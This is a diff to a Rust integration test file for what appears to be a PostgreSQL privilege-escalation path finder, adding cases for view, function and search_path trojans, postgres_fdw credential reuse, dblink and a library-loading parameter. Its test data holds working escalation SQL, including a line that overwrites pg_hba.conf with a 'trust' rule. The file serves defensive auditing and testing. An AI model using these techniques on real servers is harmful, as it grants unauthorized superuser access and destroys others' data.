@@ -42,11 +42,12 @@ const CASE: Case = Case {
 };
 
 const IS_SUPERUSER: (&str, &str, &str) = ("eve", "SELECT rolsuper FROM pg_roles WHERE rolname = 'eve'", "t");
+const TREASURE_IS_GONE: (&str, &str, &str) = ("postgres", "SELECT count(*) FROM public.treasure", "0");
 const HAS_BOSS: (&str, &str, &str) = ("eve", "SET ROLE boss; SELECT current_user", "boss");
 
 /// What people put into a function that writes files.
 const WRITE_THE_DOOR: &str = "SELECT lo_from_bytea(0, 'local all all trust') AS made \\gset\n\
-                              SELECT lo_export(:made, 'DATA/pg_hba.conf')";
+                              SELECT lo_export(:made, '<data>/pg_hba.conf')";
 
 const CASES: &[Case] = &[
     Case {
@@ -182,15 +183,14 @@ const CASES: &[Case] = &[
     Case {
         name: "files of the server written",
         setup: "GRANT pg_write_server_files TO eve",
-        fill: &[("/…/", "DATA/")],
+        fill: &[("/…/", "<data>/")],
         reload: true,
         shows: IS_SUPERUSER,
         ..CASE
     },
     Case {
         name: "a trigger waits for whoever writes",
-        setup: "CREATE TABLE public.ledger (n int); GRANT TRIGGER ON public.ledger TO eve; GRANT INSERT ON public.ledger TO boss; \
-                CREATE TABLE public.treasure (t text); INSERT INTO public.treasure VALUES ('x'); ALTER TABLE public.treasure OWNER TO boss",
+        setup: "CREATE TABLE public.ledger (n int); GRANT TRIGGER ON public.ledger TO eve; GRANT INSERT ON public.ledger TO boss;",
         goal: &["delete on table public.treasure", "--with-victim"],
         verdict: "needs a victim",
         victim: Some(("boss", "INSERT INTO public.ledger VALUES (1)")),
@@ -200,25 +200,106 @@ const CASES: &[Case] = &[
     Case {
         name: "a table's owner waits for whoever reads",
         setup: "CREATE TABLE public.ledger (n int); INSERT INTO public.ledger VALUES (1); ALTER TABLE public.ledger OWNER TO eve; \
-                REVOKE TRIGGER ON public.ledger FROM eve; GRANT SELECT ON public.ledger TO boss; CREATE TABLE public.treasure (t text); \
-                INSERT INTO public.treasure VALUES ('x'); ALTER TABLE public.treasure OWNER TO boss",
+                REVOKE TRIGGER ON public.ledger FROM eve; GRANT SELECT ON public.ledger TO boss",
         goal: &["delete on table public.treasure", "--with-victim"],
         verdict: "needs a victim",
         victim: Some(("boss", "SELECT * FROM public.ledger")),
         shows: ("postgres", "SELECT count(*) FROM public.treasure", "0"),
         ..CASE
     },
+    Case {
+        name: "a view's owner waits for whoever reads",
+        setup: "CREATE SCHEMA s AUTHORIZATION eve; CREATE TABLE s.one (n int); INSERT INTO s.one VALUES (1); \
+                CREATE VIEW s.window AS SELECT n FROM s.one; ALTER VIEW s.window OWNER TO eve; GRANT SELECT ON s.one TO eve; \
+                GRANT SELECT ON s.window TO boss; GRANT USAGE ON SCHEMA s TO boss",
+        who: "eve",
+        goal: &["delete on table public.treasure", "--with-victim"],
+        verdict: "needs a victim",
+        fill: &[("SELECT … WHERE", "SELECT 1 AS n WHERE")],
+        victim: Some(("boss", "SELECT * FROM s.window")),
+        shows: TREASURE_IS_GONE,
+        ..CASE
+    },
+    Case {
+        name: "a function's owner waits for whoever calls",
+        setup: "CREATE SCHEMA s; GRANT CREATE, USAGE ON SCHEMA s TO eve, boss; SET ROLE eve; \
+                CREATE FUNCTION s.f() RETURNS int LANGUAGE sql AS 'SELECT 1'; RESET ROLE; REVOKE CREATE ON SCHEMA s FROM eve, boss; \
+                GRANT CREATE ON SCHEMA s TO eve",
+        goal: &["delete on table public.treasure", "--with-victim"],
+        verdict: "needs a victim",
+        fill: &[("s.f() …", "s.f() RETURNS int LANGUAGE plpgsql"), ("; … END", "; RETURN 1; END")],
+        victim: Some(("boss", "SELECT s.f()")),
+        shows: TREASURE_IS_GONE,
+        ..CASE
+    },
+    Case {
+        name: "a name is looked up where others add to",
+        setup: "GRANT CREATE ON SCHEMA public TO eve",
+        goal: &["delete on table public.treasure", "--with-victim"],
+        verdict: "needs a victim",
+        victim: Some(("boss", "SELECT lower('A'::varchar)")),
+        shows: TREASURE_IS_GONE,
+        ..CASE
+    },
+    Case {
+        name: "a schema that bears a login's name",
+        since: Version::V15,
+        setup: "GRANT CREATE ON DATABASE postgres TO eve",
+        goal: &["delete on table public.treasure", "--with-victim"],
+        verdict: "needs a victim",
+        fill: &[
+            (
+                "\"…\" -- of the victim's name, which comes first in its search_path",
+                "boss; GRANT USAGE ON SCHEMA boss TO boss",
+            ),
+            ("\"…\"", "boss"),
+        ],
+        victim: Some(("boss", "SELECT lower('A'::varchar)")),
+        shows: TREASURE_IS_GONE,
+        ..CASE
+    },
+    Case {
+        name: "a credential for another server",
+        setup: "CREATE EXTENSION postgres_fdw; CREATE SERVER other FOREIGN DATA WRAPPER postgres_fdw \
+                OPTIONS (host '127.0.0.1', port '<port>', dbname 'postgres'); CREATE USER MAPPING FOR eve SERVER other \
+                OPTIONS (user 'boss', password 'x'); ALTER ROLE boss PASSWORD 'x'; GRANT USAGE ON FOREIGN SERVER other TO eve; \
+                GRANT CREATE ON DATABASE postgres TO eve",
+        goal: &["radius"],
+        shows: ("eve", "SELECT t FROM elsewhere.treasure", "x"),
+        ..CASE
+    },
+    Case {
+        name: "a function that connects as the server's account",
+        setup: "CREATE EXTENSION dblink; GRANT EXECUTE ON FUNCTION dblink_connect_u(text) TO eve",
+        verdict: "unknown",
+        fill: &[("NULL::text", "'user=postgres host=<socket> port=<port> dbname=postgres'")],
+        shows: ("printed", "", "OK"),
+        ..CASE
+    },
+    Case {
+        name: "a parameter that loads code",
+        since: Version::V15,
+        setup: "GRANT SET ON PARAMETER session_preload_libraries TO eve",
+        verdict: "unknown",
+        shows: (
+            "eve",
+            "ALTER ROLE eve SET session_preload_libraries = 'auto_explain'; SELECT setconfig[1] FROM pg_db_role_setting",
+            "session_preload_libraries=auto_explain",
+        ),
+        ..CASE
+    },
 ];
 
 /// Who there is, in every case.
-const PEOPLE: &str =
-    "CREATE ROLE eve LOGIN; CREATE ROLE boss LOGIN; CREATE ROLE helper; CREATE ROLE root2 SUPERUSER;";
+const PEOPLE: &str = "CREATE ROLE eve LOGIN; CREATE ROLE boss LOGIN; CREATE ROLE helper; CREATE ROLE root2 SUPERUSER; \
+    CREATE TABLE public.treasure (t text); INSERT INTO public.treasure VALUES ('x'); ALTER TABLE public.treasure OWNER TO boss";
 
 /// What the program finds.
 fn found(cluster: &Cluster, case: &Case, database: &str) -> Value {
     let url = cluster.url(database);
-    let mut arguments = vec!["path", case.who];
-    arguments.extend(case.goal);
+    let radius = case.goal == ["radius"];
+    let mut arguments = vec![if radius { "blast-radius" } else { "path" }, case.who];
+    arguments.extend(case.goal.iter().filter(|_| !radius));
     arguments.extend(["--url", &url, "--format", "json"]);
     let folder = crate::folder::Folder::new();
     let ran = ran(command(&arguments).current_dir(folder.path()).output().unwrap());
@@ -233,8 +314,7 @@ fn script(cluster: &Cluster, case: &Case, way: &Value, database: &str) -> String
     for statement in statements {
         let mut statement = statement.as_str().unwrap().to_owned();
         for (gap, filled) in case.fill {
-            statement =
-                statement.replace(gap, &filled.replace("DATA", &cluster.data_dir().to_string_lossy()));
+            statement = statement.replace(gap, &self::filled(cluster, filled));
         }
         if case.reload && statement.starts_with("\\connect") {
             script.push_str(&format!(
@@ -249,6 +329,13 @@ fn script(cluster: &Cluster, case: &Case, way: &Value, database: &str) -> String
         script.push_str(&format!("\\! {} -U {who} -d {database} -c \"{does}\"\n", psql(cluster)));
     }
     script
+}
+
+/// Where the server is, in place of words for it.
+fn filled(cluster: &Cluster, text: &str) -> String {
+    text.replace("<data>", &cluster.data_dir().to_string_lossy())
+        .replace("<socket>", &cluster.socket_dir().to_string_lossy())
+        .replace("<port>", &cluster.port().to_string())
 }
 
 fn psql(cluster: &Cluster) -> String {
@@ -276,9 +363,13 @@ fn prove(case: &Case, version: Version) {
     let cluster = Cluster::start(&Installation::find(version).unwrap()).unwrap();
     let database = "postgres";
     cluster.psql(database, PEOPLE).unwrap();
-    cluster.psql(database, case.setup).unwrap_or_else(|error| panic!("{} on {version}: {error}", case.name));
+    cluster
+        .psql(database, &filled(&cluster, case.setup))
+        .unwrap_or_else(|error| panic!("{} on {version}: {error}", case.name));
     let found = found(&cluster, case, database);
-    let way = &found["found"][0];
+    // Of everything that is reached, the last is what the case is about.
+    let way =
+        found["found"].get(0).or_else(|| found["reached"].as_array().and_then(|all| all.last())).unwrap();
     assert_eq!(way["verdict"], case.verdict, "{} on {version}: {found:#}", case.name);
     let script = script(&cluster, case, way, database);
     let printed = session(&cluster, case.who, database, &script);
